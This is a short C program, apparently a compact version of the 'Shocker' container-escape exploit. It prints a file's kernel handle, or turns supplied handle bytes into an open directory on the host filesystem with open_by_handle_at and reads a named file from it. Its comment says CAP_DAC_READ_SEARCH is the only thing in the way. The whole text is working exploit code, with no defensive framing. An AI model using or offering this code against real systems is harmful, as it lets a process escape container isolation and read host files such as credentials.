/* handle name PATH: print PATH's file handle, TYPE BYTES in hexadecimal (name_to_handle_at(2)).
 * handle open ANCHOR TYPE BYTES NAME: open that handle in ANCHOR's file system and print NAME's content ("Shocker").
 *
 * A handle names an inode, whatever mounts and roots a process has: CAP_DAC_READ_SEARCH is the only thing in the way. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static union { struct file_handle handle; char room[sizeof(struct file_handle) + MAX_HANDLE_SZ]; } it;

int main(int argc, char **argv)
{
    char content[256];
    int mount;
    if (argc == 3 && strcmp(argv[1], "name") == 0) {
        it.handle.handle_bytes = MAX_HANDLE_SZ;
        if (name_to_handle_at(AT_FDCWD, argv[2], &it.handle, &mount, 0) != 0)
            return perror("name_to_handle_at"), 1;
        printf("%d ", it.handle.handle_type);
        for (unsigned i = 0; i < it.handle.handle_bytes; i++)
            printf("%02x", it.handle.f_handle[i]);
        return puts("") < 0;
    }
    if (argc != 6)
        return 2;
    it.handle.handle_type = atoi(argv[3]);
    it.handle.handle_bytes = strlen(argv[4]) / 2;
    for (unsigned i = 0; i < it.handle.handle_bytes; i++)
        sscanf(argv[4] + 2 * i, "%2hhx", &it.handle.f_handle[i]);
    int directory = open_by_handle_at(open(argv[2], O_RDONLY), &it.handle, O_RDONLY | O_DIRECTORY);
    if (directory < 0)
        return perror("open_by_handle_at"), 1;
    int file = openat(directory, argv[5], O_RDONLY);
    ssize_t length = read(file, content, sizeof content);
    return length < 0 || write(1, content, length) != length;
}
